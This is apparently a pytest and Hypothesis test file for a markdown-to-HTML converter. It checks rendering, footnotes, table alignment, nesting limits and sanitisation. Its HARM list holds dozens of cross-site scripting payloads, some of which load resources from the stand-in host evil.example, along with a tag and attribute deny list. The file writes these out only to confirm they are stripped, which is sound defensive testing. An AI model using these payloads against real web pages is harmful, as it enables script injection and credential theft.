"""Article text becomes HTML that reads well and can do no harm."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pressrun.core.markdown import DEEPEST, depth, to_html, word_count

MEANT = {
    "Two\n\nparagraphs.": "<p>Two</p>\n<p>paragraphs.</p>\n",
    "*a* **b** ~~c~~ `d`": "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n",
    "[a](/b/ 'c')": '<p><a href="/b/" title="c">a</a></p>\n',
    "<https://a.example>": '<p><a href="https://a.example">https://a.example</a></p>\n',
    "- a\n- b": "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n",
    "3. a\n4. b": '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n',
    "> a": "<blockquote>\n<p>a</p>\n</blockquote>\n",
    "```\n<b>\n```": "<pre><code>&lt;b&gt;\n</code></pre>\n",
    "a\\\nb": "<p>a<br>\nb</p>\n",
    "***": "<hr>\n",
    "\"She said 'no'\" -- and left...": "<p>“She said ‘no’” – and left…</p>\n",
    "# a": "<h2>a</h2>\n",
    "## a {#b}": '<h2 id="b">a</h2>\n',
    "<h1>a</h1>": "<h2>a</h2>",
    "H<sub>2</sub>O": "<p>H<sub>2</sub>O</p>\n",
    "- [x] a": '<ul>\n<li><input disabled="" type="checkbox" checked="">\na</li>\n</ul>\n',
    "AT&T 1 < 2": "<p>AT&amp;T 1 &lt; 2</p>\n",
}


@pytest.mark.parametrize(("text", "html"), MEANT.items(), ids=MEANT)
def test_markdown_means_what_it_always_meant(text: str, html: str) -> None:
    assert to_html(text) == html


def test_a_table_keeps_its_alignment_without_a_style_attribute() -> None:
    html = to_html("|a|b|c|d|\n|:-|:-:|-:|-|\n|1|2|3|4|")
    assert re.findall(r"<th\b[^>]*>", html) == ['<th class="left">', '<th class="center">', '<th class="right">', "<th>"]
    assert re.findall(r"<td[^>]*>", html) == ['<td class="left">', '<td class="center">', '<td class="right">', "<td>"]


def test_a_footnote_and_its_reference_find_each_other() -> None:
    html = to_html("a[^n]\n\n[^n]: b")
    assert '<sup class="footnote-reference"><a href="#n">1</a></sup>' in html
    assert '<div class="footnote-definition" id="n"><sup class="footnote-definition-label">1</sup>' in html


HARM = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<svg onload=alert(1)><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="//evil.example/x.swf">
<style>body { background: url(//evil.example) }</style>
<p style="background: url(javascript:alert(1))">x</p>
<div onclick=alert(1) onmouseover="alert(1)" class="masthead">x</div>
<a href="javascript:alert(1)">x</a>
<a href=" jAvAsCrIpT:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="x" target="_blank" onfocus=alert(1) autofocus>x</a>
<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
<input type="text" onfocus=alert(1) autofocus>
<base href="//evil.example/">
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea><script>alert(1)</script></textarea>
<title><img src=x onerror=alert(1)></title>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<a href="x" "><img src=x onerror=alert(1)>">x</a>
<th style="text-align: left; background: url(//evil.example)">x</th>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)
![x](javascript:alert(1))
![x"onerror="alert(1)](x)
[x](x "\\" onmouseover=alert(1) x=\\"")
<javascript:alert(1)>
`<script>alert(1)</script>`
""".splitlines()

HARMLESS = re.compile(r"(https?://|mailto:|tel:|[/#]|[^:]*$)", re.IGNORECASE)
NEVER = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "button",
    "base",
    "meta",
    "link",
    "template",
    "img",
    "video",
    "source",
    "h1",
}


class Elements(HTMLParser):
    """The start tags of some HTML, each with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def can_do_no_harm(html: str) -> bool:
    for tag, attributes in Elements(html).found:
        if tag in NEVER or any(name.startswith("on") or name in ("style", "srcdoc", "target", "autofocus", "name") for name in attributes):
            return False
        if tag == "input" and attributes.get("type", "checkbox") != "checkbox":
            return False
        if not all(HARMLESS.match((attributes.get(name) or "").strip()) for name in ("href", "cite", "src", "action", "formaction")):
            return False
    return True


@pytest.mark.parametrize("text", HARM)
def test_harm_is_taken_out(text: str) -> None:
    assert can_do_no_harm(to_html(text))
    assert can_do_no_harm(to_html(f"A paragraph with {text} in it."))


def test_a_script_leaves_no_text_behind() -> None:
    assert to_html("a <script>alert(1)</script> b") == "<p>a  b</p>\n"


@given(
    st.lists(st.sampled_from([*HARM, "**", "`", "\n\n", "> ", '"', "'", "<", ">", "&lt;", "|a|\n|-|\n", "[", "](", ")", "-->"]), max_size=8).map(
        "".join
    )
)
def test_harm_is_taken_out_however_it_is_put_together(text: str) -> None:
    assert can_do_no_harm(to_html(text))


@given(st.text())
def test_any_text_at_all_becomes_html(text: str) -> None:
    assert can_do_no_harm(to_html(text))


LONG = {
    "links that never close": "[" * 50_000,
    "links in links": "[a](" * 50_000,
    "emphasis that never closes": "*a **b " * 25_000,
    "emphasis over emphasis": "a**b" * 25_000 + "c* " * 25_000,
    "backticks of every length": "".join("`" * n + " " for n in range(1500)),
    "a wide table": "|" + "a|" * 20_000 + "\n|" + "-|" * 20_000,
    "an attribute after the other": "<a " + "x " * 50_000 + ">",
    "comments that never close": "<!--" * 50_000,
    "footnotes without end": "[^a]" * 50_000 + "\n\n[^a]: b",
    "ampersands": "&" * 100_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_a_pathological_text_takes_no_more_than_its_share(text: str) -> None:
    assert len(to_html(text)) < 20 * len(text)


@pytest.mark.parametrize("opened", ["> ", "<div>", "<b>", "<b>x</p>", "<section></b>", "</div><div><table>"])
def test_nesting_is_measured_before_anything_parses_it(opened: str) -> None:
    assert depth(opened * 5_000) > DEEPEST


@pytest.mark.parametrize("text", ["<p>a\n\n" * 5_000, "- a\n" * 5_000, "<br>" * 5_000, "<b>a</b>" * 5_000, "| a |\n| - |\n" + "| b |\n" * 5_000])
def test_a_long_text_is_not_a_deep_one(text: str) -> None:
    assert depth(text) <= 4


def test_only_words_are_counted() -> None:
    assert word_count(to_html("# Two words\n\n- and *three* more")) == 5
